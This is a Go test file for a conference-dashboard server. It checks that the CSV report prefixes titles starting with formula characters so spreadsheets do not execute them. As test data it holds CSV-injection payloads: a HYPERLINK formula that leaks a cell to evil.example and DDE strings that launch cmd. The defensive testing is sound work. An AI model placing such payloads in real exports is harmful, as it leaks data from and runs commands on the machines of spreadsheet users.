package server

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/confdash/confdash/schedule"
	"github.com/confdash/confdash/schedule/load"
)

// csvTriggers are the first characters that make a spreadsheet read a cell
// as a formula (OWASP, CSV injection).
const csvTriggers = "=+-@\t\r"

// TestReportCSVInjection: titles that a spreadsheet would run as formulas
// come out of the CSV report with a leading apostrophe; other titles are
// untouched, and the numbers and instants the report writes stay numbers
// and instants. The CSV is read back with encoding/csv, as a spreadsheet
// import would split it.
func TestReportCSVInjection(t *testing.T) {
	day, err := os.ReadFile(filepath.Join("testdata", "day.yaml"))
	if err != nil {
		t.Fatal(err)
	}
	titles := map[string]string{ // the test day's title -> a hostile one
		"Opening Keynote":         `=HYPERLINK("https://evil.example/?"&A1,"Slides")`,
		"Chasing Tail Latency":    `+1+cmd|' /C calc'!A0`,
		"Coffee":                  `-2+3`,
		"Queues All the Way Down": `@SUM(1+1)*cmd|' /C calc'!A0`,
	}
	text := string(day)
	for from, to := range titles {
		quoted, _ := json.Marshal(to) // a YAML double-quoted scalar
		text = strings.Replace(text, "title: "+from+"\n", "title: "+string(quoted)+"\n", 1)
	}
	// Two more sessions: one for a carriage return, and one whose title
	// only contains what a formula starts with, which stays as it is.
	text += `  - id: closing
    track: side
    title: Closing
    start: 2026-10-06 11:00
    end: 2026-10-06 11:30
  - id: wrap
    track: main
    title: "Q&A: = or -?"
    start: 2026-10-06 11:00
    end: 2026-10-06 11:30
`
	path := filepath.Join(t.TempDir(), "day.yaml")
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
	sc, _, err := load.ParseFile(path, schedule.Options{})
	if err != nil {
		t.Fatal(err)
	}
	// The native format trims titles; other importers may keep a leading
	// tab or carriage return, so two titles get them after parsing.
	extra := map[string]string{"panel": "\t=1+1", "closing": "\r=1+1"}
	for i, s := range sc.Sessions {
		if title, ok := extra[s.ID]; ok {
			sc.Sessions[i].Title = title
		}
	}
	ts := startServer(t, Config{Schedule: sc, AdminToken: adminToken})
	ts.admin(t, http.MethodPost, "/api/v1/tracks/main/delay", `{"minutes": 7}`, http.StatusOK)

	var rep struct{ Sessions []reportRow }
	if err := json.Unmarshal(ts.get(t, "/api/v1/report"), &rep); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(ts.get(t, "/api/v1/report?format=csv"))).ReadAll()
	if err != nil {
		t.Fatalf("the CSV report does not parse: %v", err)
	}
	if len(rows) != len(rep.Sessions)+1 || len(rep.Sessions) == 0 {
		t.Fatalf("the CSV has %d rows for %d sessions, want a header and one row each", len(rows), len(rep.Sessions))
	}
	hostile, delayed := 0, 0
	for i, row := range rows[1:] {
		r := rep.Sessions[i]
		want := r.Title // the JSON report is not a spreadsheet: titles as they are
		if strings.ContainsRune(csvTriggers, rune(r.Title[0])) {
			want, hostile = "'"+r.Title, hostile+1
		}
		if got := row[2]; got != want {
			t.Errorf("session %s: title cell %q, want %q", r.Session, got, want)
		}
		if row[0] != r.Track || row[1] != r.Session {
			t.Errorf("session %s: track and session cells %q, %q, want them unchanged", r.Session, row[0], row[1])
		}
		if start, err := time.Parse(time.RFC3339, row[3]); err != nil || !start.Equal(r.Start) {
			t.Errorf("session %s: start cell %q (%v), want %v", r.Session, row[3], err, r.Start)
		}
		peak, perr := strconv.Atoi(row[4])
		minutes, merr := strconv.ParseFloat(row[5], 64)
		delay, derr := strconv.Atoi(row[6])
		if perr != nil || merr != nil || derr != nil || peak != r.PeakViewers || minutes != r.ViewerMinutes || delay != r.DelayMinutes {
			t.Errorf("session %s: number cells %q, want the plain numbers %d, %v, %d", r.Session, row[4:], r.PeakViewers, r.ViewerMinutes, r.DelayMinutes)
		}
		if delay > 0 {
			delayed++
		}
	}
	if hostile != len(titles)+len(extra) || delayed == 0 {
		t.Errorf("the report had %d hostile titles and %d delayed sessions, want %d and some: the test checked less than it should", hostile, delayed, len(titles)+len(extra))
	}
}
